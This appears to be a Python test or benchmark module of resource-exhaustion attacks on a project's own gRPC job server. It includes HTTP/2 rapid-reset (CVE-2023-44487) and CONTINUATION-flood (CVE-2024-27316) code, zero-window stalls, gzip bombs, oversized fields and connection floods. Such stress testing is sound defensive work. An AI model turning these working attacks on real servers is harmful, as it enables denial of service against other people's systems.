"""Attacks on the gRPC server. Each runs until it is canceled.

No attack has more than 3,000 streams open, over at most 25 connections. Frames are sent directly
where a client library would not send them.
"""

import asyncio
import gzip
import itertools
from collections.abc import Awaitable, Callable, Sequence
from contextlib import suppress
from typing import Any

import grpc
from fleet.jobs.v1 import device_jobs_pb2 as device_pb
from fleet.jobs.v1 import device_jobs_pb2_grpc, jobs_pb2_grpc
from fleet.jobs.v1 import jobs_pb2 as pb

from bench.process import OWN_CONNECTIONS
from tests.support import http2
from tests.support.http2_windows import Connection, connect, length_prefixed, rst_stream

TENANT = {"x-tenant-id": "attacker"}

LARGE_JOB_TENANTS = [f"attacker-{number}" for number in range(30)]
"""Tenants with a device."""

CONNECTIONS = 25
STREAMS = 60  # on each connection

# Seconds before a refused call is sent again, which is the delay that refusals ask for, and
# before a closed connection is opened again.
_RETRY_DELAY = 1.0
_RECONNECT_DELAY = 0.1

_JOBS = "/fleet.jobs.v1.JobService"
_DEVICE_JOBS = "/fleet.jobs.v1.DeviceJobService"
_GET_JOB = f"{_JOBS}/GetJob"
_LIST_JOBS = f"{_JOBS}/ListJobs"
_CREATE_JOB = f"{_JOBS}/CreateJob"
_HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
_REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"

_MIB = 1 << 20

_RESETS_PER_SECOND = 10_000
_RESETS_AT_ONCE = 100

# Metadata of the size that gRPC accepts by default.
_METADATA_BYTES = 7_000


async def forever() -> None:
    """Keep what has been opened until the attack is canceled."""
    await asyncio.Event().wait()


async def _on_connections(
    address: str,
    attack: Callable[[Connection], Awaitable[None]],
    *,
    connections: int = CONNECTIONS,
    window: int = 65_535,
) -> None:
    """Run the attack on several connections; connect again when the server closes one."""

    async def repeat() -> None:
        while True:
            with suppress(OSError):
                async with connect(address, window) as connection:
                    await attack(connection)
            await asyncio.sleep(_RECONNECT_DELAY)

    await asyncio.gather(*(repeat() for _ in range(connections)))


async def keep_calling(
    address: str,
    method: str,
    data: bytes,
    *,
    metadata: dict[str, str] = TENANT,
    end: bool = True,
    repeat: int = 1,
    connections: int = CONNECTIONS,
    streams: int = STREAMS,
    window: int = 65_535,
) -> None:
    """Keep a number of streams of a method open on each connection.

    Sends `data` on each stream, `repeat` times, and with `end` ends the request. When the server
    ends a stream, such as by refusing the call, opens the next one after a delay.
    """

    async def attack(connection: Connection) -> None:
        numbers = itertools.count(1, 2)

        async def keep_calling() -> None:
            while not connection.is_closed:
                stream = next(numbers)
                connection.open(stream, method, metadata)
                for left in range(repeat - 1, -1, -1):
                    await connection.send(stream, data, end=end and not left)
                await connection.wait_for_end(stream)
                await asyncio.sleep(_RETRY_DELAY)

        await asyncio.gather(*(keep_calling() for _ in range(streams)))

    await _on_connections(address, attack, connections=connections, window=window)


async def unread_pages(address: str) -> None:
    """Request pages of 5,000 executions and grant no window for the responses."""
    request = http2.message(pb.GetJobRequest(job_id="j", executions_limit=5000))
    await keep_calling(address, _GET_JOB, request, window=0)


async def large_health_names(address: str) -> None:
    """Watch the health of services with names of 4 MiB, without credentials."""
    await keep_calling(address, _HEALTH_WATCH, _text_of_4_mib(1), metadata={}, streams=4)


async def large_reflection_names(address: str) -> None:
    """Ask reflection for files with names of 4 MiB, without credentials."""
    await keep_calling(
        address, _REFLECTION, _text_of_4_mib(3), metadata={}, streams=4, end=False, window=0
    )


def _text_of_4_mib(field: int) -> bytes:
    """Return a message with a string of almost 4 MiB in the field with this number."""
    size = 4 * _MIB - 100
    varint = bytes([size & 0x7F | 0x80, size >> 7 & 0x7F | 0x80, size >> 14 & 0x7F | 0x80])
    return length_prefixed(bytes([field << 3 | 2]) + varint + bytes([size >> 21]) + b"x" * size)


async def resets(address: str) -> None:
    """Open and cancel 10,000 calls a second without credentials (CVE-2023-44487)."""
    await _resets(address, lambda stream: b"", {})


async def resets_of_calls(address: str) -> None:
    """Send and cancel 10,000 calls a second of one tenant that read from the database."""
    request = http2.message(pb.GetJobRequest(job_id="j", executions_limit=10))
    await _resets(
        address,
        lambda stream: http2.frame(http2.DATA, http2.END_STREAM, stream, request),
        TENANT,
    )


async def _resets(
    address: str, data: Callable[[int], bytes], metadata: dict[str, str], connections: int = 4
) -> None:
    interval = _RESETS_AT_ONCE * connections / _RESETS_PER_SECOND

    async def attack(connection: Connection) -> None:
        for batch in itertools.count():
            for stream in range(
                2 * batch * _RESETS_AT_ONCE + 1, 2 * (batch + 1) * _RESETS_AT_ONCE, 2
            ):
                connection.raw.open(stream, _GET_JOB, metadata)
                connection.raw.writer.write(data(stream) + rst_stream(stream))
            await connection.raw.writer.drain()
            if connection.is_closed:
                return
            await asyncio.sleep(interval)

    await _on_connections(address, attack, connections=connections)


async def large_report_ids(address: str) -> None:
    """Send 200 reports with ids of 4 MiB on one stream and read no response."""
    report = _report("x" * (4 * _MIB - 100), device_pb.ReportExecutionsRequest)
    await _send_reports(report, address, connections=1, streams=1)


async def unread_reports(address: str) -> None:
    """Send 200 reports on each of 1,500 streams and read no response."""
    await _send_reports(_report("d0000000", device_pb.ReportExecutionsRequest), address)


async def unread_report_batches(address: str) -> None:
    """Send messages of 100 reports with large details on 50 streams and read no response."""
    reports = [_report(f"d{number:07}") for number in range(100)]
    for report in reports:
        report.report.status_details.update({f"{n:03}": None for n in range(180)})
    await _send_reports(device_pb.ReportExecutionsRequest(reports=reports), address, streams=2)


def _report(device_id: str, report_type: Any = device_pb.ExecutionReport) -> Any:
    return report_type(
        device_id=device_id,
        report=device_pb.UpdateExecutionRequest(job_id="j", status=pb.JobExecution.IN_PROGRESS),
    )


async def _send_reports(
    request: device_pb.ReportExecutionsRequest,
    address: str,
    connections: int = CONNECTIONS,
    streams: int = STREAMS,
) -> None:
    await keep_calling(
        address,
        f"{_DEVICE_JOBS}/ReportExecutions",
        http2.message(request),
        repeat=200,
        end=False,
        connections=connections,
        streams=streams,
        window=0,
    )


async def compressed_statuses(address: str) -> None:
    """List jobs by 4 million and by 250,000 statuses, compressed to 4 kB, ten times a second."""
    requests = [
        length_prefixed(gzip.compress(_statuses(count)), compressed=True)
        for count in (4_000_000, 250_000)
    ]

    metadata = TENANT | {"grpc-encoding": "gzip"}

    async def attack(connection: Connection) -> None:
        for stream, request in zip(itertools.count(1, 2), itertools.cycle(requests), strict=False):
            connection.open(stream, _LIST_JOBS, metadata)
            await connection.send(stream, request, end=True)
            await connection.wait_for_end(stream)
            if connection.is_closed:
                return
            await asyncio.sleep(1)

    await _on_connections(address, attack, connections=10)


def _statuses(count: int) -> bytes:
    return pb.ListJobsRequest(statuses=[pb.Job.COMPLETED] * count).SerializeToString()


async def half_sent_requests(address: str) -> None:
    """Send 4 MiB except the last byte on 100 streams of one tenant."""
    await keep_calling(address, _CREATE_JOB, _most_of_4_mib(), end=False, streams=4)


async def half_sent_requests_without_credentials(address: str) -> None:
    """Send 4 MiB except the last byte on 1,500 streams without credentials."""
    await keep_calling(address, _CREATE_JOB, _most_of_4_mib(), end=False, metadata={})


def _most_of_4_mib() -> bytes:
    return length_prefixed(bytes(4 * _MIB - 5))[:-1]


async def large_documents(address: str) -> None:
    """Create jobs with documents of 200 KiB, which exceed the limit, on 1,500 streams."""
    request = pb.CreateJobRequest(document_type="x", target_all=True)
    request.document_params["text"] = "x" * 200_000
    await keep_calling(address, _CREATE_JOB, http2.message(request))


async def nested_documents(address: str) -> None:
    """Create jobs with documents of 50,000 empty lists, more than fit, on 1,500 streams."""
    request = pb.CreateJobRequest(document_type="x", target_all=True)
    request.document_params.update({"lists": [[]] * 50_000})
    await keep_calling(address, _CREATE_JOB, http2.message(request))


async def unknown_fields(address: str) -> None:
    """Create jobs with 80,000 unknown fields on 1,500 streams."""
    await keep_calling(address, _CREATE_JOB, length_prefixed(b"\xa0\x1f\x01" * 80_000))


async def idle_connections(address: str) -> None:
    """Open 600 connections without a call."""

    async def attack(connection: Connection) -> None:
        await connection.wait_for_end()

    await _on_connections(address, attack, connections=600)


async def large_metadata(address: str) -> None:
    """Open 1,500 calls with 7 kB of metadata and without a message."""
    metadata = TENANT | {f"x-text-{n}": "x" * 100 for n in range(_METADATA_BYTES // 140)}
    await keep_calling(address, _GET_JOB, b"", metadata=metadata, end=False)


async def continuation_frames(address: str) -> None:
    """Send header blocks that never end (CVE-2024-27316)."""
    headers, continuation = 1, 9
    block = http2.headers({"x-text": "x" * 100}) * 100

    async def attack(connection: Connection) -> None:
        connection.raw.writer.write(http2.frame(headers, stream=1, payload=block))
        while not connection.is_closed:
            connection.raw.writer.write(http2.frame(continuation, stream=1, payload=block))
            await connection.raw.writer.drain()
            await asyncio.sleep(0)

    await _on_connections(address, attack)


async def watches_at_once(address: str) -> None:
    """Open 1,500 watches of devices at once, as a bridge does after a network failure."""
    devices = (f"d{number:07}" for number in range(CONNECTIONS * STREAMS))
    await _watch_devices(address, [(TENANT["x-tenant-id"], device) for device in devices])


async def watches_of_tenants(address: str) -> None:
    """Watch a device of each of 3,000 tenants, on one stream each, and change nothing."""
    await _watch_devices(address, [(f"attacker-{n}", "d0000000") for n in range(3000)])


async def _watch_devices(address: str, devices: Sequence[tuple[str, str]]) -> None:
    """Watch devices of tenants."""
    channels = _channels(address)

    async def watch(number: int, tenant: str, device: str) -> None:
        stub = device_jobs_pb2_grpc.DeviceJobServiceStub(channels[number % CONNECTIONS])
        metadata = (("x-tenant-id", tenant), ("x-device-id", device))
        request = device_pb.WatchPendingExecutionsRequest()
        await _keep_watching(lambda: stub.WatchPendingExecutions(request, metadata=metadata))

    await asyncio.gather(*(watch(number, *names) for number, names in enumerate(devices)))


async def watches_of_large_jobs(address: str) -> None:
    """Watch the largest jobs, with 100 stages, of 30 tenants on 1,020 streams."""
    channels = _channels(address)

    async def watch(number: int) -> None:
        stub: Any = jobs_pb2_grpc.JobServiceStub(channels[number % CONNECTIONS])
        metadata = (("x-tenant-id", LARGE_JOB_TENANTS[number]),)
        await _create_large_job(stub, metadata)
        request = pb.WatchJobRequest(job_id="large")
        await asyncio.gather(
            *(_keep_watching(lambda: stub.WatchJob(request, metadata=metadata)) for _ in range(34))
        )

    await asyncio.gather(*map(watch, range(len(LARGE_JOB_TENANTS))))


async def _create_large_job(stub: Any, metadata: Any) -> None:
    """Create a job whose names and codes are as long as the server accepts."""
    for part in (1, 0.5, 0.25, 0.1, 0.05, 0.02):
        name, codes = "\U0001f680" * int(100 * part), max(1, int(50 * part))
        stages = [
            pb.Stage(display_name=name, device_count=1, gate=pb.Gate(min_succeeded_percent=99))
            for _ in range(99)
        ]
        criterion = pb.FailureCriterion(
            failure_codes=[f"{n:02}{'x' * 62}" for n in range(codes)], count=1_000_000
        )
        request = pb.CreateJobRequest(
            job_id="large",
            document_type="x",
            target_all=True,
            rollout=pb.Rollout(stages=[*stages, pb.Stage(display_name=name, remainder=True)]),
            failure_criteria=[criterion] * 10,
        )
        request.document_params["text"] = "x" * 30_000
        with suppress(grpc.aio.AioRpcError):
            await stub.CreateJob(request, metadata=metadata)
            return
    raise RuntimeError("the server accepts no large job")


def _channels(address: str) -> list[grpc.aio.Channel]:
    return [grpc.aio.insecure_channel(address, OWN_CONNECTIONS) for _ in range(CONNECTIONS)]


async def _keep_watching(opened: Callable[[], Any]) -> None:
    """Read a watch, and open it again a second after it has ended."""
    while True:
        with suppress(grpc.aio.AioRpcError):
            async for _ in opened():
                pass
        await asyncio.sleep(_RETRY_DELAY)


async def unread_watches(address: str) -> None:
    """Watch a job on 1,500 streams and grant no window for the responses."""
    request = http2.message(pb.WatchJobRequest(job_id="j"))
    await keep_calling(address, f"{_JOBS}/WatchJob", request, window=0)
